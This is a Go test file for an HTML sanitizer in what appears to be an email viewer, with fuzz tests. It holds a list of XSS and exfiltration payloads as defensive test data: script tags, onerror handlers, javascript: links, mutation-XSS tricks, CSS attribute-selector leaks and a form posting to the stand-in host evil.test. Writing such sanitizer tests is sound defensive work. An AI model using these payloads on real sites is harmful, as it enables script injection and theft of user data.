package safe

import (
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"sekimori/internal/text"
)

var words = Words{Lang: text.Ja, Title: "本文", Image: "画像：", Target: "リンク先：", Differs: "表示と違う", Cut: "以下省略"}

// hostile is markup that tries to run, to fetch, to submit or to lead away.
var hostile = []string{
	`<script>alert(1)</script>`, `<script src=//evil.test/x.js>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>`,
	`<style>@import url(//evil.test/x.css); input[value^=a]{background:url(//evil.test/a)}</style>`, `<link rel=stylesheet href=//evil.test/x.css>`,
	`<p style="background:url(//evil.test/x)">x</p>`, `<body background=//evil.test/x onload=alert(1)>`, `<meta http-equiv=refresh content="0;url=//evil.test/">`,
	`<form action=//evil.test/ method=post><input name=p><button>送信</button></form>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=//evil.test/x></object>`,
	`<embed src=//evil.test/x>`, `<a href="javascript:alert(1)">押す</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<base href=//evil.test/>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<table><td background=//evil.test/x>`, `<video poster=//evil.test/x src=//evil.test/y></video>`,
	`<img srcset="//evil.test/1x 1x">`, `<input type=image src=//evil.test/x>`, `<div id=x name=y class=z></div></main></body></html><script>alert(1)</script>`,
	`<textarea></textarea><script>alert(1)</script>`, `<template><img src=x onerror=alert(1)></template>`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>`,
	`<img alt="]<script>alert(1)</script>" src=data:image/svg+xml,<svg/onload=alert(1)>>`, "<a href='https://evil.test/\"onmouseover=alert(1)'>x</a>",
}

// harmless fails when markup has anything but structure.
func harmless(t *testing.T, in, out string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(out))
	depth := 0
	for {
		switch z.Next() {
		case html.ErrorToken:
			if depth != 0 {
				t.Errorf("%q: %d elements are not closed in %q", in, depth, out)
			}
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			k := z.Token()
			if !slices.Contains(structure, k.Data) {
				t.Errorf("%q: <%s> in %q", in, k.Data, out)
			}
			if k.Data != "br" && k.Data != "hr" {
				depth++
			}
			for _, a := range k.Attr {
				own := a.Key == "class" && slices.Contains([]string{"link", "target", "target differs", "image", "cut"}, a.Val)
				if !own && !slices.Contains([]string{"colspan", "rowspan", "align"}, a.Key) {
					t.Errorf("%q: %s=%q in %q", in, a.Key, a.Val, out)
				}
			}
		case html.EndTagToken:
			depth--
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("%q: %s in %q", in, z.Token(), out)
		}
	}
}

func TestHostileMarkup(t *testing.T) {
	for _, in := range append(slices.Clone(hostile), strings.Join(hostile, "\n")) {
		harmless(t, in, clean(in, words, nil))
	}
	got := clean(`<p>前</p><a href="http://evil.test/x">https://bank.test/</a><img alt="ロゴ" src="//evil.test/p.gif"><p>後`, words, nil)
	for _, want := range []string{"<p>前</p>", "[表示と違う リンク先：http://evil.test/x]", "[画像：ロゴ]", "<p>後</p>"} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in %q", want, got)
		}
	}
}

// What a start tag without an end would swallow is still shown.
func TestNothingIsHidden(t *testing.T) {
	for _, in := range []string{
		"<svg><p>秘密</p>", "<object><p>秘密</p>", "<frameset><p>秘密</p>", "<head><p>秘密</p>", "<select><p>秘密</p>", "<template>秘密", "<noscript>秘密",
		`<p style="display:none">秘密</p>`, `<font size=0 color=white>秘密</font>`, "<math>秘密", "<video>秘密",
	} {
		if got := clean(in, words, nil); !strings.Contains(got, "秘密") {
			t.Errorf("%q: %q", in, got)
		}
	}
}

func TestMarkupIsBounded(t *testing.T) {
	start := time.Now()
	for _, in := range []string{
		strings.Repeat("<div>", 100_000), strings.Repeat("<a href=x>", 50_000), strings.Repeat("<table><tr><td>", 30_000), strings.Repeat("</div>", 80_000),
		strings.Repeat("<b><i>", 80_000) + strings.Repeat("</b></i>", 60_000), strings.Repeat("&lt;", 120_000), strings.Repeat("<a href='"+strings.Repeat("x", 400)+"'>y</a>", 1200),
		strings.Repeat("<object>", 60_000), strings.Repeat("<noscript", 50_000), strings.Repeat("\u202e", 150_000),
	} {
		got := clean(in, words, nil)
		harmless(t, in[:min(20, len(in))], got)
		if len(got) > 2*maxMarkup {
			t.Errorf("%q: %d octets", in[:20], len(got))
		}
		if strings.Count(got, "<div>") > maxNest {
			t.Errorf("%d divs within each other", strings.Count(got, "<div>"))
		}
	}
	t.Logf("%v for ten hostile documents", time.Since(start))
}

func TestDocument(t *testing.T) {
	_, m := New([]byte("Content-Type: text/html; charset=utf-8\r\n\r\n<p onclick=x>こんにちは\r\n"))
	doc, ok := Document(m, words)
	if !ok || !strings.Contains(doc, "<p>こんにちは") || !strings.Contains(doc, `<html lang="ja">`) {
		t.Errorf("%v %s", ok, doc)
	}
	if p := FramePolicy(); !strings.Contains(p, "default-src 'none'") || !strings.HasSuffix(p, "; sandbox") || strings.Contains(p, "unsafe") {
		t.Error(p)
	}
	_, m = New([]byte("Content-Type: text/plain\r\n\r\n<p>x"))
	if _, ok := Document(m, words); ok {
		t.Error("a plain text has a document")
	}
}

func FuzzClean(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { harmless(t, s, clean(s, words, nil)) })
}

func FuzzView(f *testing.F) {
	f.Add([]byte("From: a\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>\r\n--b--"))
	f.Fuzz(func(t *testing.T, raw []byte) {
		v, m := New(raw)
		for _, r := range v.Subject + v.Text {
			if text.Hidden(r) && r != '\n' && r != '\t' && r != 0x200D {
				t.Fatalf("%U is shown as it is", r)
			}
		}
		if _, ok := Document(m, words); ok != v.HTML {
			t.Fatalf("HTML is %v and there is a document: %v", v.HTML, ok)
		}
	})
}
